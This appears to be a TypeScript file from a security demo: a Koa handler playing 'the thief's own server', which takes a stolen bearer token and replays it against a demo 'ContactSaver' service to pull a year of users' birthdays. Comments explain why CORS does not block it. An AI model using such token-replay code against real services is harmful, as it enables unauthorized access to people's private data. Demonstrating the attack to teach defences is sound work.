import type { Context } from 'koa';
import { readText } from './read-text.ts';

export interface ElsewhereOptions {
  readonly contactSaverUrl: string;
  /** Reaches ContactSaver from this process. */
  readonly send: typeof fetch;
}

/**
 * The thief's own server: takes a token, uses it once, and forgets it. CORS does not stop it, for it is no browser; a
 * bearer token is good for whoever has it (RFC 6750 §1.2).
 */
export async function useStolenToken(
  ctx: Context,
  { contactSaverUrl, send }: ElsewhereOptions,
): Promise<void> {
  const token = await readText(ctx.req);
  // RFC 6750 §2.1: nothing but the characters of a token gets into the header.
  if (!/^[\w.~+/-]{1,4000}=*$/.test(token)) return ctx.throw(400);
  ctx.body = await askFor(`${contactSaverUrl}/birthdays?days=366`, token, send).catch(
    () => 'nobody answered',
  );
}

async function askFor(url: string, token: string, send: typeof fetch): Promise<string> {
  const answer = await send(url, { headers: { authorization: `Bearer ${token}` } });
  if (!answer.ok) return `refused with ${answer.status}`;
  const list = (await answer.json()) as { items?: unknown[] };
  return `${list.items?.length ?? 0} birthdays, without this browser, until the token expires`;
}
